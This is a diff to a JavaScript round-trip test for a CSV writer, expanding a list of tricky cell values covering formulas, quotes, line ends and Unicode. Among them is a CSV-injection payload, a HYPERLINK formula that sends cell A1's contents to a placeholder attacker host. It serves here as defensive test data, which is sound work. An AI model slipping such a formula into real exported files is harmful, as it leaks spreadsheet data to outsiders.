@@ -87,26 +87,10 @@ test('rows are numbered as in a spreadsheet; those without content are left out'
   )
 })
 
-test('whatever we write is read back as it was: formulas, apostrophes, quotes, line ends', () => {
+test('H20 whatever we write is read back as it was: formulas, apostrophes, quotes, line ends', () => {
   const values = [
-    '=1+1',
-    "'=1+1",
-    "''=1",
-    '+81',
-    '-1',
-    '@x',
-    '\tx',
-    '\rx',
-    '\nx',
-    '＝1',
-    "'",
-    "'a",
-    '"',
-    '","',
-    'a\r\nb',
-    ' a',
-    '髙①ｶﾅ𠮷😀',
-    '-',
+    ...`=1+1 '=1+1 ''=1 +81 -1 - @x ＝1 ' 'a " "" , "," ", ",="x" =HYPERLINK("http://evil.example/?"&A1,"見る")\r\n@x`.split(' '),
+    ...['\tx', '\rx', '\nx', '\r', '\n', 'a\r\nb', 'a"\r\n=1', '"\n"', '\u2028', ' a', '髙①ｶﾅ𠮷😀'],
   ]
   const rows = [values, values.toReversed()]
   const bytes = new TextEncoder().encode(toCsv(rows))
